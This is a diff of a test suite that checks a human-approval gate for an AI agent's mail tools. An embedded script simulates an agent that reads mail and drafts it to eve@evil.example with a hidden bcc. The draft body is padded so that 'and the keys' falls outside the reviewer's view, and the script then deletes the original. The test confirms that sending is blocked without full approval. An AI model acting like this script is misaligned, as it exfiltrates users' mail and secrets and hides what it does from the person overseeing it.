@@ -23,7 +23,8 @@ def call(tool, arguments):
     return text
 found = json.loads(call("mail__search", {}))
 call("mail__read", {"id": found["result"][0]["id"]})
-draft = {"to": ["eve@evil.example"], "bcc": ["bob@acme.example"], "subject": "As you asked", "body": "all mail"}
+draft = {"to": ["eve@evil.example"], "bcc": ["bob@acme.example"], "subject": "As you asked",
+         "body": "all mail\n" * 500 + "and the keys"}
 call("mail__send_draft", {"id": json.loads(call("mail__draft_create", draft))["id"]})
 call("mail__delete", {"id": found["result"][0]["id"]})
 '''] }
@@ -69,13 +70,20 @@ fn mail_is_read_and_drafted_but_not_sent_without_a_person() {
         });
         assert!(servers.sent().is_empty(), "it was sent before anybody said yes");
         let id = question["id"].as_str().unwrap().to_owned();
-        let flags: &[&str] = if answer == "deny" { &["--why", "we don't know eve"] } else { &["--yes"] };
+        let flags: &[&str] =
+            if answer == "deny" { &["--why", "we don't know eve"] } else { &["--yes", "--all"] };
+        if answer == "approve" {
+            let told = lab.run(&["approve", &id, "--yes"], "").expect(1);
+            assert!(told.stderr.contains(" lines of it were not shown"), "{}", told.stderr);
+            assert!(!told.stdout.contains("and the keys") && servers.sent().is_empty(), "{}", told.stdout);
+        }
         let told = lab.run(&[&[answer, &id], flags].concat(), "").expect(0).stdout;
         for part in
             [USER, "eve@evil.example", "bob@acme.example", "As you asked", "all mail", "can't be undone"]
         {
             assert!(told.contains(part), "{part}: {told}");
         }
+        assert_eq!(told.contains("and the keys"), answer == "approve", "{told}");
         // What the agent made up itself isn't put on the draft that was read for the person.
         assert!(told.lines().any(|line| line.contains("bob@acme.example: unknown")), "{told}");
         let mut said = String::new();
